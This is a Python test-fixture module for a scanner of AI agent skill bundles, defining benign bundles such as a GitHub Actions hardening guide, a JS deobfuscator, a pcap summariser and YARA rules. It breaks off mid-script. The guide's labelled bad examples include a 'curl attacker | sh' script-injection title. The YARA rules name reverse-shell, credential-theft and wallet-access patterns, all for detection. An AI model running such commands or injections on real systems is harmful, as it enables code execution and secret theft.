"""Legitimate bundles expected to pass (part 2 of 2)."""
from common import add, skill, sub, b64, charcodes, rev

L = "legit"

# ---------------------------------------------------------------------------
add("github-actions-hardening", L, "pass",
    "GitHub Actions hardening guide that shows vulnerable workflow patterns (pull_request_target checkout, script injection, toJSON(secrets), unpinned actions) as labelled bad examples next to fixes, plus a read-only SHA-pinning helper using gh",
    {
"SKILL.md": skill("github-actions-hardening",
"Hardens GitHub Actions workflows: least-privilege permissions, SHA-pinned actions, safe handling of untrusted PR input, OIDC instead of long-lived secrets. Use when reviewing workflows for security or after a supply-chain incident.",
r"""
# GitHub Actions Hardening

Reduce what a compromised dependency or a malicious PR can do in CI.

## Audit steps

1. List workflows: `ls .github/workflows/`.
2. For each, check the items in the table below.
3. Propose a diff; explain each change in one line.
4. Compare with `reference/bad-vs-good.md`, which contains deliberately
   vulnerable examples for recognition.

| Check | Target state |
|-------|--------------|
| top-level `permissions:` | `contents: read`, widen per job only |
| third-party `uses:` | pinned to full commit SHA with tag comment |
| `pull_request_target` | never combined with checkout of PR head |
| `${{ github.event.* }}` in `run:` | passed through `env:` and quoted |
| secrets passed to steps | only the ones the step needs, never `toJSON(secrets)` |
| cloud credentials | OIDC (`id-token: write`) instead of stored keys |
| self-hosted runners | not used for public-repo PRs |
| `GITHUB_TOKEN` | not persisted: `persist-credentials: false` on checkout |

## Pin actions to SHAs

```bash
python3 <skill-dir>/scripts/pin_actions.py .github/workflows/*.yml          # show proposals
python3 <skill-dir>/scripts/pin_actions.py --write .github/workflows/*.yml  # apply after review
```

The helper resolves tags with `gh api` (read-only) and rewrites
`uses: owner/repo@v4` to `uses: owner/repo@<sha> # v4`.

## Dependabot

Add `.github/dependabot.yml` with `package-ecosystem: github-actions` so pinned
SHAs get update PRs.

## Incident response

If a pinned action is reported compromised: search workflow logs for the
affected period, rotate every secret those workflows could access, and pin to
a known-good SHA.
"""),
"reference/bad-vs-good.md": r"""# Vulnerable workflow patterns (for recognition only)

## 1. pull_request_target + PR head checkout

```yaml
# BAD: runs untrusted PR code with a write token and secrets
on: pull_request_target
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
```

```yaml
# GOOD: untrusted code runs under pull_request with no secrets
on: pull_request
permissions:
  contents: read
```

## 2. Script injection

```yaml
# BAD: a PR titled  a"; curl attacker | sh; "  executes
- run: echo "Title: ${{ github.event.pull_request.title }}"
```

```yaml
# GOOD
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Title: $TITLE"
```

## 3. Dumping all secrets into a step

```yaml
# BAD: every secret is exposed to a third-party script
- env:
    ALL: ${{ toJSON(secrets) }}
  run: ./third-party-setup.sh
```

```yaml
# GOOD: pass only what is needed
- env:
    DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}
  run: ./deploy.sh
```

## 4. Mutable action references

```yaml
# BAD
- uses: some-org/setup-tool@v2
# GOOD
- uses: some-org/setup-tool@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2.3.1
```
""",
"scripts/pin_actions.py": r'''#!/usr/bin/env python3
"""Propose (or write) SHA pins for `uses:` lines. Read-only unless --write."""
import json
import re
import subprocess
import sys

USES = re.compile(r"^(\s*-?\s*uses:\s*)([\w.-]+/[\w.-]+)(/[\w./-]+)?@([\w.-]+)\s*(#.*)?$")
SHA = re.compile(r"^[0-9a-f]{40}$")


def resolve(repo, ref):
    for kind in ("tags", "heads"):
        try:
            out = subprocess.run(["gh", "api", f"repos/{repo}/git/ref/{kind}/{ref}"],
                                 capture_output=True, text=True, check=True).stdout
        except subprocess.CalledProcessError:
            continue
        obj = json.loads(out)["object"]
        if obj["type"] == "tag":
            obj = json.loads(subprocess.run(["gh", "api", f"repos/{repo}/git/tags/{obj['sha']}"],
                                            capture_output=True, text=True, check=True).stdout)["object"]
        return obj["sha"]
    return None


def main(argv):
    write = "--write" in argv
    for path in [a for a in argv if not a.startswith("--")]:
        lines = open(path, encoding="utf-8").read().split("\n")
        changed = False
        for i, line in enumerate(lines):
            m = USES.match(line)
            if not m or SHA.match(m.group(4)) or m.group(2).startswith("./"):
                continue
            sha = resolve(m.group(2), m.group(4))
            if not sha:
                print(f"{path}:{i + 1}: could not resolve {m.group(2)}@{m.group(4)}")
                continue
            new = f"{m.group(1)}{m.group(2)}{m.group(3) or ''}@{sha} # {m.group(4)}"
            print(f"{path}:{i + 1}: {line.strip()}  ->  {new.strip()}")
            lines[i] = new
            changed = True
        if write and changed:
            open(path, "w", encoding="utf-8").write("\n".join(lines))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
''',
    })

# ---------------------------------------------------------------------------
_FIX_URL = "https://cdn.fixture.example/analytics.js"
add("js-deobfuscation-helper", L, "pass",
    "Static JavaScript deobfuscation helper that folds fromCharCode, atob, hex escapes, string concatenation and reversed strings with regexes and never evaluates input, shipped with a harmless obfuscated fixture",
    {
"SKILL.md": skill("js-deobfuscation-helper",
"Statically deobfuscates suspicious JavaScript (char codes, atob, hex/unicode escapes, split string concatenation, reversed strings) into readable source without executing it. Use when analysing an obfuscated script from a package, extension or web page.",
r"""
# JS Deobfuscation Helper

Make obfuscated JavaScript readable **without running it**.

## Safety rules

- Never `node file.js`, `eval`, `new Function`, or paste the sample into a
  browser console. Not even inside a "sandbox" VM module: `vm` is not a
  security boundary.
- Work on a copy; keep the original with its SHA-256 for reporting.
- Defang any URLs you find before writing them into notes.

## Use

```bash
python3 <skill-dir>/scripts/deob.py sample.js > sample.deob.js
python3 <skill-dir>/scripts/deob.py --passes 5 sample.js | less
```

Try it on `fixtures/obfuscated.js`, a harmless fixture that only logs a
message; the output should show the decoded strings in place.

## What it folds

| Pattern | Becomes |
|---------|---------|
| `String.fromCharCode(104,105)` | `"hi"` |
| `atob("aGk=")` / `Buffer.from("aGk=","base64").toString()` | `"hi"` |
| `"\x68\x69"`, `"\u0068i"` | `"hi"` |
| `"h" + "i"` | `"hi"` |
| `"ih".split("").reverse().join("")` | `"hi"` |

Repeated passes handle nesting (e.g. `atob` of a concatenation).

## What it does not do

- Control-flow flattening and string-array rotators (javascript-obfuscator)
  need an AST tool such as `webcrack` or `synchrony`; run those offline too.
- It does not rename variables; use Prettier on the output for layout.

## Reporting

List decoded network endpoints, file paths, and any `eval`/`Function` sinks
with line numbers from the deobfuscated output.
"""),
"scripts/deob.py": r'''#!/usr/bin/env python3
"""Static string-level deobfuscation for JavaScript. Never executes input."""
import argparse
import base64
import binascii
import json
import re
import sys

STR = r"""(?:"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*')"""
FROMCC = re.compile(r"String\.fromCharCode\(\s*((?:0x[0-9a-fA-F]+|\d+)(?:\s*,\s*(?:0x[0-9a-fA-F]+|\d+))*)\s*\)")
ATOB = re.compile(r"(?:atob|window\.atob)\(\s*(" + STR + r")\s*\)")
BUF = re.compile(r"Buffer\.from\(\s*(" + STR + r")\s*,\s*['\"]base64['\"]\s*\)\.toString\(\s*(?:['\"]utf-?8['\"])?\s*\)")
CONCAT = re.compile(r"(" + STR + r")\s*\+\s*(" + STR + r")")
REVERSE = re.compile(r"(" + STR + r")\.split\(\s*(['\"])\2\s*\)\.reverse\(\)\.join\(\s*(['\"])\3\s*\)")


def unq(lit):
    body = lit[1:-1]
    return body.encode("latin-1", "backslashreplace").decode("unicode_escape")


def q(s):
    return json.dumps(s, ensure_ascii=False)


def _cc(m):
    nums = [int(x, 0) for x in re.split(r"\s*,\s*", m.group(1))]
    try:
        return q("".join(chr(n) for n in nums))
    except ValueError:
        return m.group(0)


def _b64(m):
    try:
        return q(base64.b64decode(unq(m.group(1))).decode("utf-8"))
    except (binascii.Error, UnicodeDecodeError, ValueError):
        return m.group(0)


def _escapes(m):
    try:
        return q(unq(m.group(0)))
    except UnicodeDecodeError:
        return m.group(0)


def one_pass(src):
    src = FROMCC.sub(_cc, src)
    src = ATOB.sub(_b64, src)
    src = BUF.sub(_b64, src)
    src = REVERSE.sub(lambda m: q(unq(m.group(1))[::-1]), src)
    prev = None
    while prev != src:
        prev = src
        src = CONCAT.sub(lambda m: q(unq(m.group(1)) + unq(m.group(2))), src)
    src = re.sub(STR, lambda m: _escapes(m) if "\\x" in m.group(0) or "\\u" in m.group(0) else m.group(0), src)
    return src


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file")
    ap.add_argument("--passes", type=int, default=3)
    a = ap.parse_args()
    src = open(a.file, encoding="utf-8", errors="replace").read()
    for _ in range(a.passes):
        new = one_pass(src)
        if new == src:
            break
        src = new
    sys.stdout.write(src)
    for sink in re.finditer(r"\b(eval|Function|setTimeout|setInterval)\s*\(", src):
        line = src.count("\n", 0, sink.start()) + 1
        print(f"// [deob] dynamic code sink '{sink.group(1)}' at line {line}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
"fixtures/obfuscated.js": sub(r"""// Harmless fixture for deob.py. It only logs a message; do not execute anyway.
var _0x3f2a = [String.fromCharCode(@@CC@@), "\x66\x69\x78\x74\x75\x72\x65"];
var _0xe1 = atob("@@B@@");
var _0x9c = "@@R@@".split("").reverse().join("");
var _0x77 = "cons" + "ole";
function _0x11(a, b) { return a + " " + b; }
if (false) { Function(_0xe1)(); }
globalThis[_0x77]["log"](_0x11(_0x3f2a[0], _0x3f2a[1]), _0x9c);
""", CC=charcodes("hello from the"), B=b64("console.log('decoded fixture')"), R=rev(_FIX_URL)),
    })

# ---------------------------------------------------------------------------
add("pcap-summary-tool", L, "pass",
    "tshark-based packet capture summariser for offline pcaps that reports top talkers, DNS names and protocols and flags DNS-tunnelling and beaconing heuristics, reading files only",
    {
"SKILL.md": skill("pcap-summary-tool",
"Summarises a packet capture (.pcap/.pcapng) with tshark: top talkers, protocols, DNS queries, TLS SNI, HTTP hosts, and flags DNS tunnelling or beaconing patterns. Use when the user has a capture file and wants to know what is in it.",
r"""
# PCAP Summary Tool

Get the gist of a capture in one command.

## Requirements

`tshark` (Wireshark CLI): `apt install tshark` or `brew install wireshark`.

## Run

```bash
sh <skill-dir>/scripts/pcap_summary.sh capture.pcapng
sh <skill-dir>/scripts/pcap_summary.sh capture.pcapng --dns-only
```

Reads the file offline; it does not sniff live interfaces or resolve names.

## Sections

| Section | Source |
|---------|--------|
| protocol hierarchy | `tshark -qz io,phs` |
| top conversations | `tshark -qz conv,ip` |
| DNS queries | `dns.qry.name` |
| TLS SNI | `tls.handshake.extensions_server_name` |
| HTTP hosts | `http.host` |
| heuristics | see below |

## Heuristics flagged

- **DNS tunnelling**: labels longer than 40 characters, high share of TXT or
  NULL queries, many unique subdomains under one parent domain.
- **Beaconing**: connections to the same destination at near-constant
  intervals (low jitter) over the whole capture.
- **Cleartext credentials**: HTTP basic auth headers, FTP `USER/PASS`.

A flag is a lead, not a verdict; CDNs and telemetry also produce long labels.

## Privacy

Captures can contain credentials and personal data. Keep them local, don't
paste payload bytes into reports, and delete working copies when done.
"""),
"scripts/pcap_summary.sh": r"""#!/bin/sh
# Offline pcap summary. Usage: pcap_summary.sh FILE [--dns-only]
set -eu
f="${1:?usage: pcap_summary.sh FILE [--dns-only]}"
command -v tshark >/dev/null || { echo "tshark not found" >&2; exit 2; }
T="tshark -n -r $f"

dns() {
  echo "== DNS queries (top 30) =="
  $T -Y 'dns.flags.response == 0' -T fields -e dns.qry.name 2>/dev/null | sort | uniq -c | sort -rn | head -30
  echo "== DNS tunnelling heuristics =="
  $T -Y 'dns.flags.response == 0' -T fields -e dns.qry.name -e dns.qry.type 2>/dev/null | awk '
    { n=$1; split(n, L, "."); maxl=0; for (i in L) if (length(L[i]) > maxl) maxl=length(L[i]);
      k=length(L); parent=L[k-1] "." L[k]; uniq[parent][n]=1; total[parent]++;
      if ($2 == 16 || $2 == 10) txt[parent]++;
      if (maxl > 40) longl[parent]++ }
    END { for (p in total) {
            u=0; for (x in uniq[p]) u++;
            if (longl[p] > 5 || u > 200 || txt[p] > 50)
              printf "  %-40s queries=%d unique=%d long_labels=%d txt_null=%d\n", p, total[p], u, longl[p]+0, txt[p]+0 } }'
}

if [ "${2:-}" = "--dns-only" ]; then dns; exit 0; fi

echo "== protocol hierarchy =="
$T -qz io,phs 2>/dev/null | sed -n '/===/,$p' | head -40
echo "== top IP conversations =="
$T -qz conv,ip 2>/dev/null | sed -n '6,25p'
dns
echo "== TLS SNI =="
$T -Y 'tls.handshake.type == 1' -T fields -e tls.handshake.extensions_server_name 2>/dev/null | sort | uniq -c | sort -rn | head -20
echo "== HTTP hosts =="
$T -Y http.request -T fields -e http.host 2>/dev/null | sort | uniq -c | sort -rn | head -20
echo "== beaconing candidates (dst, count, mean interval s, stddev) =="
$T -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' -T fields -e frame.time_epoch -e ip.dst 2>/dev/null | awk '
  { t=$1; d=$2; if (d in last) { dt=t-last[d]; s[d]+=dt; ss[d]+=dt*dt; c[d]++ } last[d]=t }
  END { for (d in c) if (c[d] >= 10) { m=s[d]/c[d]; v=ss[d]/c[d]-m*m; if (v < 0) v=0; sd=sqrt(v);
          if (m > 5 && sd < 0.1*m) printf "  %-16s %5d %8.1f %8.2f\n", d, c[d]+1, m, sd } }'
echo "== cleartext credential indicators =="
$T -Y 'http.authorization || ftp.request.command == "PASS"' -T fields -e ip.src -e ip.dst -e frame.protocols 2>/dev/null | sort -u | head -20
""",
    })

# ---------------------------------------------------------------------------
add("python-packaging-guide", L, "pass",
    "Python packaging guide with a declarative pyproject.toml template (hatchling, src layout, no setup.py code) and advice on trusted publishing, sdist contents and avoiding install-time code",
    {
"SKILL.md": skill("python-packaging-guide",
"Packages a Python library with a modern pyproject.toml (src layout, hatchling or setuptools), builds wheels/sdists, and publishes with trusted publishing. Use when the user wants to publish a package to PyPI or fix packaging errors.",
r"""
# Python Packaging Guide

Ship a library that installs cleanly everywhere.

## Layout

```
mylib/
├── pyproject.toml
├── README.md
├── LICENSE
├── src/mylib/__init__.py
└── tests/
```

The `src/` layout prevents accidentally importing the working tree instead of
the installed package during tests.

## pyproject.toml

Start from `templates/pyproject.toml`. Everything is declarative: no
`setup.py`, no code that runs at install time. If you think you need custom
install logic (downloading binaries, writing files outside the package),
ship it as an explicit command the user runs instead.

## Build and check

```bash
python -m pip install build twine
python -m build
twine check dist/*
python -m pip install dist/*.whl && python -c "import mylib; print(mylib.__version__)"
```

Inspect the sdist: `tar tzf dist/*.tar.gz` should not contain `.env`, `.git`
or large test data.

## Publish

Use trusted publishing (OIDC) from CI instead of API tokens:

1. Configure the publisher for the project in PyPI's web UI.
2. In the release workflow use the official publish action with
   `permissions: id-token: write`.

## Versioning

- Single source of truth: `version` in pyproject, or `dynamic = ["version"]`
  with hatch-vcs from git tags.
- Follow SemVer for libraries.

## Common errors

| Error | Fix |
|-------|-----|
| `package directory 'src/mylib' does not exist` | fix `packages` path |
| files missing from wheel | check `[tool.hatch.build]` include/exclude |
| `long_description` rendering | set `readme = "README.md"` |
"""),
"templates/pyproject.toml": r"""[build-system]
requires = ["hatchling>=1.25"]
build-backend = "hatchling.build"

[project]
name = "mylib"
version = "0.1.0"
description = "One-line description of mylib"
readme = "README.md"
requires-python = ">=3.9"
license = "MIT"
authors = [{ name = "Your Name", email = "you@example.com" }]
classifiers = [
  "Programming Language :: Python :: 3",
  "License :: OSI Approved :: MIT License",
  "Operating System :: OS Independent",
]
dependencies = []

[project.optional-dependencies]
dev = ["pytest>=8", "ruff>=0.5", "mypy>=1.10"]

[project.urls]
Homepage = "https://example.com/mylib"
Issues = "https://example.com/mylib/issues"

[tool.hatch.build.targets.wheel]
packages = ["src/mylib"]

[tool.hatch.build.targets.sdist]
exclude = [".github", ".env*", "*.log"]

[tool.ruff]
line-length = 100

[tool.pytest.ini_options]
testpaths = ["tests"]
""",
    })

# ---------------------------------------------------------------------------
add("i18n-json-sync", L, "pass",
    "Locale JSON synchroniser that adds missing keys from the source locale, removes orphans and reports untranslated strings, working only on files in the repo",
    {
"SKILL.md": skill("i18n-json-sync",
"Keeps i18next/vue-i18n JSON locale files in sync with the source language: adds missing keys, flags stale ones, preserves key order and nesting. Use when translation files drift apart.",
r"""
# i18n JSON Sync

Make every locale file have the same keys as the source locale.

## Usage

```bash
python3 <skill-dir>/scripts/sync_locales.py public/locales --source en
python3 <skill-dir>/scripts/sync_locales.py public/locales --source en --prune
python3 <skill-dir>/scripts/sync_locales.py public/locales --source en --check
```

Supported layouts:

- `locales/en.json`, `locales/de.json`
- `locales/en/common.json`, `locales/de/common.json` (namespaces)

## Behaviour

| Case | Default | With `--prune` |
|------|---------|----------------|
| key in source, missing in target | added with source text, marked untranslated | same |
| key in target, missing in source | reported as stale | removed |
| nested objects | merged recursively | same |
| key order | follows source file | same |

Untranslated entries are listed in the report so translators can find them.
`--check` changes nothing and exits 1 if any file is out of sync (for CI).

## Tips

- Keep the source locale the only file developers edit by hand.
- Plurals: i18next uses `key_one`, `key_other`; they are treated as normal keys.
- Sort is by source order, so diffs stay small.
"""),
"scripts/sync_locales.py": r'''#!/usr/bin/env python3
"""Sync locale JSON files with the source locale."""
import argparse
import json
import os
import sys


def flatten(d, prefix=""):
    for k, v in d.items():
        key = f"{prefix}.{k}" if prefix else k
        if isinstance(v, dict):
            yield from flatten(v, key)
        else:
            yield key, v


def merge(src, tgt, prune, missing, stale, prefix=""):
    out = {}
    for k, v in src.items():
        key = f"{prefix}.{k}" if prefix else k
        if isinstance(v, dict):
            out[k] = merge(v, tgt.get(k, {}) if isinstance(tgt.get(k), dict) else {}, prune, missing, stale, key)
        elif k in tgt and not isinstance(tgt[k], dict):
            out[k] = tgt[k]
        else:
            out[k] = v
            missing.append(key)
    for k, v in tgt.items():
        if k not in src:
            stale.append(f"{prefix}.{k}" if prefix else k)
            if not prune:
                out[k] = v
    return out


def pairs(root, source):
    if os.path.isdir(os.path.join(root, source)):
        for ns in sorted(os.listdir(os.path.join(root, source))):
            for loc in sorted(os.listdir(root)):
                if loc != source and os.path.isdir(os.path.join(root, loc)):
                    yield os.path.join(root, source, ns), os.path.join(root, loc, ns)
    else:
        for f in sorted(os.listdir(root)):
            if f.endswith(".json") and f != f"{source}.json":
                yield os.path.join(root, f"{source}.json"), os.path.join(root, f)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root")
    ap.add_argument("--source", default="en")
    ap.add_argument("--prune", action="store_true")
    ap.add_argument("--check", action="store_true")
    a = ap.parse_args()
    dirty = False
    for sp, tp in pairs(a.root, a.source):
        src = json.load(open(sp, encoding="utf-8"))
        tgt = json.load(open(tp, encoding="utf-8")) if os.path.exists(tp) else {}
        missing, stale = [], []
        new = merge(src, tgt, a.prune, missing, stale)
        if missing or (stale and a.prune):
            dirty = True
        print(f"{tp}: {len(missing)} missing, {len(stale)} stale")
        for k in missing[:20]:
            print(f"  + {k}")
        for k in stale[:20]:
            print(f"  - {k}")
        if not a.check:
            os.makedirs(os.path.dirname(tp), exist_ok=True)
            with open(tp, "w", encoding="utf-8") as fh:
                json.dump(new, fh, ensure_ascii=False, indent=2)
                fh.write("\n")
    return 1 if (a.check and dirty) else 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("timezone-meeting-planner", L, "pass",
    "Meeting-time planner that uses zoneinfo to find overlapping working hours across participants' time zones, including DST transitions, entirely offline",
    {
"SKILL.md": skill("timezone-meeting-planner",
"Finds meeting slots that fall within working hours for participants in different time zones, accounting for daylight saving changes. Use when scheduling across cities or converting a time for several people.",
r"""
# Timezone Meeting Planner

Find a time that works for everyone.

## Usage

```bash
python3 <skill-dir>/scripts/plan.py --date 2025-03-31 \
  --tz Europe/Berlin --tz America/New_York --tz Asia/Tokyo \
  --hours 9-18 --duration 30
```

Options:

| Flag | Meaning |
|------|---------|
| `--tz` | IANA zone per participant (repeat) |
| `--hours 9-18` | working window in each participant's local time |
| `--duration` | meeting length in minutes |
| `--step` | slot granularity in minutes (default 30) |
| `--convert "2025-03-31 15:00 Europe/Berlin"` | just show that instant everywhere |

## Output

```
UTC 13:00  | Europe/Berlin 15:00 | America/New_York 09:00 | Asia/Tokyo 22:00 (outside)
```

Slots where everyone is inside their window are marked `OK`; if none exist the
tool shows the three least-bad slots ranked by total minutes outside hours.

## Gotchas

- Always use IANA names (`America/Los_Angeles`), not abbreviations (`PST`),
  which are ambiguous and ignore DST.
- The US and EU switch DST on different dates; weeks in March and
  October/November shift overlaps by an hour.
- Some zones have 30/45-minute offsets (`Asia/Kolkata`, `Asia/Kathmandu`).
"""),
"scripts/plan.py": r'''#!/usr/bin/env python3
"""Find meeting slots across time zones (stdlib zoneinfo)."""
import argparse
import datetime as dt
from zoneinfo import ZoneInfo

UTC = ZoneInfo("UTC")


def parse_hours(s):
    a, b = s.split("-")
    return int(a), int(b)


def convert(spec, zones):
    d, t, z = spec.split()
    when = dt.datetime.fromisoformat(f"{d}T{t}").replace(tzinfo=ZoneInfo(z))
    for tz in zones:
        print(f"{tz:<24} {when.astimezone(ZoneInfo(tz)).strftime('%a %Y-%m-%d %H:%M %Z')}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--date")
    ap.add_argument("--tz", action="append", required=True)
    ap.add_argument("--hours", default="9-17")
    ap.add_argument("--duration", type=int, default=30)
    ap.add_argument("--step", type=int, default=30)
    ap.add_argument("--convert")
    a = ap.parse_args()
    if a.convert:
        convert(a.convert, a.tz)
        return
    h0, h1 = parse_hours(a.hours)
    day = dt.date.fromisoformat(a.date)
    start = dt.datetime.combine(day, dt.time(0), tzinfo=UTC) - dt.timedelta(hours=12)
    slots = []
    for i in range(0, 48 * 60, a.step):
        s = start + dt.timedelta(minutes=i)
        e = s + dt.timedelta(minutes=a.duration)
        outside, cells = 0, []
        for tz in a.tz:
            ls, le = s.astimezone(ZoneInfo(tz)), e.astimezone(ZoneInfo(tz))
            lo = ls.replace(hour=h0, minute=0)
            hi = ls.replace(hour=h1, minute=0)
            mins = max(0, (lo - ls).total_seconds() / 60) + max(0, (le - hi).total_seconds() / 60)
            if ls.date() != day and s.astimezone(ZoneInfo(a.tz[0])).date() != day:
                mins += 10_000
            outside += mins
            cells.append(f"{tz} {ls:%H:%M}" + (" (outside)" if mins else ""))
        slots.append((outside, s, cells))
    ok = [x for x in slots if x[0] == 0]
    show = ok or sorted(slots, key=lambda x: x[0])[:3]
    for outside, s, cells in show:
        tag = "OK " if outside == 0 else f"+{int(outside)}m"
        print(f"{tag} UTC {s:%H:%M} | " + " | ".join(cells))


if __name__ == "__main__":
    main()
''',
    })

# ---------------------------------------------------------------------------
add("yara-rule-builder", L, "pass",
    "YARA rule authoring skill whose shipped detection rules contain indicator strings (stratum+tcp, /dev/tcp/, wallet extension ids, Chromium Login Data, curl|sh) purely as match patterns for scanning files",
    {
"SKILL.md": skill("yara-rule-builder",
"Writes YARA rules for suspicious scripts and packages (miners, reverse shells, credential stealers, install-hook droppers), with metadata and false-positive testing. Use when the user wants detection rules for files on disk or in a package registry mirror.",
r"""
# YARA Rule Builder

Turn analyst notes into rules that scan files at scale.

## Workflow

1. Collect strings that are **specific** to the behaviour (paths, API
   sequences, protocol markers), not to one sample's random names.
2. Draft the rule with a `meta` block: author, date, description, reference,
   severity.
3. Use a `condition` that needs several weak indicators or one strong one.
4. Test for true positives on the samples and false positives on a clean
   corpus (e.g. a checkout of popular packages):
   ```bash
   yara -r -s rules/scripts.yar ./corpus-clean | head
   yara -r rules/scripts.yar ./samples
   ```
5. Record the false-positive rate in the rule's `meta`.

## Shipped rules

`rules/scripts.yar` contains rules for:

| Rule | Looks for |
|------|-----------|
| `Script_Miner_Stratum` | stratum URLs plus miner CLI flags |
| `Script_Reverse_Shell` | `/dev/tcp/` redirections, `pty.spawn` with sockets |
| `Script_Browser_Credential_Access` | Chromium `Login Data`/`Local State` plus upload |
| `Script_Wallet_Access` | wallet folder names and extension ids |
| `Script_Pipe_To_Shell_Installer` | download piped to a shell inside install hooks |

The strings are detection patterns; the rule file itself contains no
executable code.

## Style

- `nocase` only where the indicator is case-insensitive in practice.
- Prefer `ascii wide` for strings that may appear in UTF-16 PowerShell.
- Keep rules under ~15 strings; split otherwise.
"""),
"rules/scripts.yar": r"""rule Script_Miner_Stratum
{
    meta:
        description = "Script launching a cryptocurrency miner against a stratum pool"
        severity = "high"
    strings:
        $s1 = "stratum+tcp://" ascii nocase
        $s2 = "stratum+ssl://" ascii nocase
        $f1 = "--donate-level" ascii
        $f2 = "--cpu-priority" ascii
        $f3 = "xmrig" ascii nocase
        $f4 = "--coin" ascii
    condition:
        filesize < 2MB and 1 of ($s*) and 1 of ($f*)
}

rule Script_Reverse_Shell
{
    meta:
        description = "Interactive shell redirected to a network socket"
        severity = "high"
    strings:
        $b1 = /bash -i *>& *\/dev\/tcp\// ascii
        $b2 = /\/dev\/tcp\/[0-9.]+\/[0-9]+/ ascii
        $p1 = "pty.spawn" ascii
        $p2 = "socket.socket" ascii
        $p3 = "os.dup2" ascii
        $n1 = "nc -e /bin/sh" ascii
    condition:
        $b1 or $b2 or $n1 or ($p1 and $p2 and $p3)
}

rule Script_Browser_Credential_Access
{
    meta:
        description = "Reads Chromium credential stores and sends data out"
        severity = "high"
    strings:
        $c1 = "Login Data" ascii wide
        $c2 = "Local State" ascii wide
        $c3 = "Cookies" ascii wide
        $u1 = "requests.post" ascii
        $u2 = "curl " ascii
        $u3 = "https.request" ascii
        $u4 = "sendDocument" ascii
    condition:
        filesize < 1MB and $c1 and ($c2 or $c3) and 1 of ($u*)
}

rule Script_Wallet_Access
{
    meta:
        description = "Touches desktop or browser-extension crypto wallet storage"
        severity = "medium"
    strings:
        $w1 = "exodus.wallet" ascii nocase
        $w2 = "Electrum/wallets" ascii nocase
        $w3 = "nkbihfbeogaeaoehlefnkodbefgpgknn" ascii
        $w4 = "solana/id.json" ascii
        $w5 = "Local Extension Settings" ascii wide
    condition:
        2 of them
}

rule Script_Pipe_To_Shell_Installer
{
    meta:
        description = "Install hook that downloads and pipes to a shell"
        severity = "medium"
    strings:
        $h1 = "\"postinstall\"" ascii
        $h2 = "\"preinstall\"" ascii
        $h3 = "cmdclass" ascii
        $d1 = /curl[^|\n]{0,200}\|\s*(ba)?sh/ ascii
        $d2 = /wget[^|\n]{0,200}\|\s*(ba)?sh/ ascii
    condition:
        1 of ($h*) and 1 of ($d*)
}
""",
    })

# ---------------------------------------------------------------------------
add("dependency-license-audit", L, "pass",
    "Offline dependency licence audit that reads package-lock.json, installed node_modules manifests and Python distribution metadata and flags copyleft or unknown licences against a policy file",
    {
"SKILL.md": skill("dependency-license-audit",
"Lists the licences of all npm and Python dependencies from lockfiles and installed metadata, and flags ones that violate a licence policy (e.g. GPL in a proprietary app). Use before a release or when legal asks for a licence inventory.",
r"""
# Dependency License Audit

Know what licences you ship.

## Run

```bash
python3 <skill-dir>/scripts/licenses.py --npm . --python .venv --policy <skill-dir>/policy.json
python3 <skill-dir>/scripts/licenses.py --npm . --format csv > licenses.csv
```

Sources (all local, nothing is downloaded):

| Ecosystem | Where licence info comes from |
|-----------|-------------------------------|
| npm | `node_modules/<pkg>/package.json` `license` field, falling back to the lockfile |
| Python | `importlib.metadata` of the given venv: `License-Expression`, `License`, classifiers |

## Policy

`policy.json` lists `allow`, `review` and `deny` SPDX identifiers. Anything
not listed is `unknown` and counts as `review`.

## Output

```
DENY    some-lib 2.1.0        GPL-3.0-only      npm
REVIEW  other-lib 0.4.2       MPL-2.0           python
UNKNOWN weird-pkg 1.0.0       (none)            npm
```

Exit status 1 if any `deny` is present.

## Notes

- Dual-licensed packages (`MIT OR Apache-2.0`) pass if any option is allowed.
- Dev-only dependencies are excluded with `--prod-only` (npm lockfile flags).
- This is an inventory aid, not legal advice.
"""),
"policy.json": r"""{
  "allow": ["MIT", "ISC", "BSD-2-Clause", "BSD-3-Clause", "Apache-2.0", "0BSD", "Unlicense", "Python-2.0", "PSF-2.0"],
  "review": ["MPL-2.0", "LGPL-2.1-only", "LGPL-3.0-only", "EPL-2.0", "CC-BY-4.0"],
  "deny": ["GPL-2.0-only", "GPL-3.0-only", "AGPL-3.0-only", "SSPL-1.0"]
}
""",
"scripts/licenses.py": r'''#!/usr/bin/env python3
"""Offline licence inventory for npm and Python dependencies."""
import argparse
import csv
import glob
import json
import os
import re
import sys
from importlib import metadata

CLASSIFIER = {"MIT License": "MIT", "BSD License": "BSD-3-Clause", "Apache Software License": "Apache-2.0",
              "ISC License (ISCL)": "ISC", "Mozilla Public License 2.0 (MPL 2.0)": "MPL-2.0",
              "GNU General Public License v3 (GPLv3)": "GPL-3.0-only"}


def npm(root, prod_only):
    lock = os.path.join(root, "package-lock.json")
    pkgs = json.load(open(lock)).get("packages", {}) if os.path.exists(lock) else {}
    for path, info in pkgs.items():
        if not path or (prod_only and info.get("dev")):
            continue
        name = path.split("node_modules/")[-1]
        lic = info.get("license")
        manifest = os.path.join(root, path, "package.json")
        if os.path.exists(manifest):
            lic = json.load(open(manifest)).get("license", lic)
        if isinstance(lic, dict):
            lic = lic.get("type")
        yield name, info.get("version", "?"), lic or "", "npm"


def python(venv):
    paths = glob.glob(os.path.join(venv, "lib", "python3*", "site-packages"))
    for d in metadata.distributions(path=paths):
        m = d.metadata
        lic = m.get("License-Expression") or ""
        if not lic:
            cls = [c.split(" :: ")[-1] for c in m.get_all("Classifier") or [] if c.startswith("License ::")]
            lic = " OR ".join(CLASSIFIER.get(c, c) for c in cls) or (m.get("License") or "")[:40]
        yield m["Name"], m["Version"], lic, "python"


def verdict(lic, policy):
